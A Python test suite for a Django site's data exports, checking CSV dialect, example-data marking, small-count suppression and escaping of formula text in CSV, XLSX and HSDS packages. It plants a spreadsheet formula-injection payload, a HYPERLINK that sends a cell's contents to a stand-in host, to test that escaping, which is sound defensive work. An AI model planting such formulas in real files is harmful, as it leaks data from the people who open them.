"""One publishing pipeline: every twin, download and export is written by lagesbild.core.outputs, in
one CSV dialect, with example data marked and formula-looking text made harmless in every writer."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver
from openpyxl import load_workbook

from lagesbild.core.marking import EXAMPLE_NOTICE
from lagesbild.core.outputs import FORMATS, Output, render, restored
from lagesbild.directory import matrix
from lagesbild.directory.models import Service
from tests.directory.builders import a_service
from tests.lab.builders import example_figures_for, published_figures

DOCUMENT_FORMATS = {
    "html",
    "pdf",
    "docx",
}  # the reports' document renderers (lagesbild.reports.render)
PLANTED = '=HYPERLINK("http://example.com/?"&A1,"Klicka")'


def formats_in_urls() -> set[str]:
    """Every extension any address offers: `(?P<fmt>a|b)` groups and the lab's converters."""
    found: set[str] = set()

    def walk(patterns):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns)
            elif isinstance(pattern, URLPattern):
                regex = pattern.pattern.regex.pattern
                for group in re.findall(r"\(\?P<(?:fmt|ext)>([^)]*)\)", regex):
                    found.update(group.split("|"))
                for name, converter in getattr(pattern.pattern, "converters", {}).items():
                    if name in ("fmt", "ext"):
                        found.update(converter.regex.split("|"))

    walk(get_resolver().url_patterns)
    return found


def test_every_twin_and_download_format_is_in_the_registry():
    offered = formats_in_urls()
    assert {"json", "csv", "xlsx", "jsonstat"} <= offered
    assert offered - DOCUMENT_FORMATS <= set(FORMATS), offered - DOCUMENT_FORMATS - set(FORMATS)


CSV_ADDRESSES = [
    "/index.csv",
    "/indikatorer/ntu-hot.csv",
    "/indikatorer/ntu-hot/data.csv",
    "/api/v1/observations?indicator=ntu-hot&format=csv",
    "/hitta-stod/matris.csv",
    "/hitta-stod/analys/01.csv",
    "/aktiviteter.csv",
    "/publikationer.csv",
    "/enkater/resultat.csv",
]


@pytest.mark.parametrize("address", CSV_ADDRESSES)
def test_every_csv_speaks_one_dialect(anonymous_visitor, address):
    a_service()
    response = anonymous_visitor.get(address)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert not body.startswith(b"\xef\xbb\xbf"), "no byte-order mark"
    text = body.decode("utf-8")
    header = text.split("\r\n", 1)[0]
    assert "\r\n" in text and ";" not in header and "," in header
    assert csv.Sniffer().sniff(text[:2000], delimiters=",;").delimiter == ","


def test_formula_text_is_harmless_in_csv_and_exact_text_in_xlsx():
    output = Output(rows=[{"note": PLANTED, "phone": "+46 8 123 45", "plain": "Ok", "count": -3}])
    rows = list(csv.DictReader(io.StringIO(render(output, "csv").decode())))
    assert rows[0]["note"] == "'" + PLANTED and rows[0]["phone"] == "'+46 8 123 45"
    assert rows[0]["plain"] == "Ok" and rows[0]["count"] == "-3", "numbers are numbers, not text"
    assert restored(rows[0]["phone"]) == "+46 8 123 45"
    sheet = load_workbook(io.BytesIO(render(output, "xlsx"))).worksheets[0]
    note = sheet.cell(row=2, column=1)
    assert note.value == PLANTED and note.data_type == "s", "text, never a formula"


def test_a_note_planted_through_an_import_reaches_no_public_file_as_a_formula(anonymous_visitor):
    published_figures(
        {
            "indicator": "ntu-hot",
            "territory": "03",
            "period": "2019",
            "value": "8,1",
            "note": PLANTED,
        }
    )
    rows = csv.DictReader(
        io.StringIO(anonymous_visitor.get("/indikatorer/ntu-hot/data.csv").content.decode())
    )
    notes = [r["note"] for r in rows if r["territory"] == "03" and r["period_start"] == "2019"]
    assert notes == ["'" + PLANTED]
    book = load_workbook(
        io.BytesIO(anonymous_visitor.get("/indikatorer/ntu-hot/data.xlsx").content)
    )
    cells = [
        cell for row in book.worksheets[0].iter_rows() for cell in row if cell.value == PLANTED
    ]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_the_matrix_round_trips_through_its_own_neutralised_csv(tmp_path, stockholm_editor):
    service = a_service("Jouren Plus", phone="+46 8 123 45", description="=2+2 är en fråga")
    out = tmp_path / "matris.csv"
    out.write_bytes(
        render(
            matrix.matrix_output(matrix.export_queryset(Service.objects.all()), public=False), "csv"
        )
    )
    assert "'+46 8 123 45" in out.read_text(encoding="utf-8")
    summary = matrix.import_matrix(out, user=stockholm_editor)
    assert summary.unchanged == summary.rows
    service.refresh_from_db()
    assert (service.phone, service.description) == ("+46 8 123 45", "=2+2 är en fråga")


@pytest.mark.parametrize("extension", ["csv", "json", "xlsx", "jsonstat"])
def test_example_data_is_marked_inside_the_pipeline_in_every_format(anonymous_visitor, extension):
    example_figures_for("ntu-hot")
    body = anonymous_visitor.get(f"/indikatorer/ntu-hot/data.{extension}").content
    if extension == "xlsx":
        book = load_workbook(io.BytesIO(body))
        assert str(book["Om filen"]["A1"].value).startswith(EXAMPLE_NOTICE)
    elif extension == "csv":
        rows = list(csv.DictReader(io.StringIO(body.decode())))
        assert {row["example_data"] for row in rows} == {"ja", "nej"}, "example beside real rows"
        assert all(
            (r["example_data"] == "ja") == r["source"].startswith(EXAMPLE_NOTICE) for r in rows
        )
    else:
        assert EXAMPLE_NOTICE in body.decode()


def test_small_counts_are_suppressed_by_the_pipeline_for_every_public_format(anonymous_visitor):
    published_figures(
        {"indicator": "dodligt-vald", "territory": "00", "period": "2030", "value": "3"}
    )
    for extension in ("csv", "json", "xlsx"):
        body = anonymous_visitor.get(
            f"/indikatorer/dodligt-vald/data.{extension}?period=2030"
        ).content
        if extension == "xlsx":
            book = load_workbook(io.BytesIO(body))
            values = [row for row in book.worksheets[0].iter_rows(values_only=True) if 2030 in row]
            assert values and all(3 not in row and "suppressed" in row for row in values)
        else:
            assert b"suppressed" in body


def test_the_hsds_tabular_package_neutralises_formulas_and_reads_them_back(tmp_path):
    import zipfile

    from lagesbild.directory.hsds import tabular
    from lagesbild.directory.hsds.importing import import_hsds

    service = a_service("Jouren Plus", phone="+46 8 123 45", description="=2+2 är en fråga")
    out = tmp_path / "hsds.zip"
    with out.open("wb") as handle:
        tabular.write_export(
            Service.objects.filter(pk=service.pk), handle, "https://lagesbild.example.se"
        )
    with zipfile.ZipFile(out) as archive:
        services = next(n for n in archive.namelist() if n.endswith("services.csv"))
        phones = next(n for n in archive.namelist() if n.endswith("phones.csv"))
        assert "'=2+2 är en fråga" in archive.read(services).decode()
        assert "'+46 8 123 45" in archive.read(phones).decode()
        package = {n: archive.read(n) for n in archive.namelist() if "datapackage" in n}
    only_package = tmp_path / "paket.zip"
    with zipfile.ZipFile(only_package, "w") as archive:
        for name, data in package.items():
            archive.writestr(
                name.split("/", 1)[1] if name.startswith("datapackage/") else name, data
            )
    summary = import_hsds(only_package)
    assert summary.unchanged == 1
    service.refresh_from_db()
    assert (service.phone, service.description) == ("+46 8 123 45", "=2+2 är en fråga")
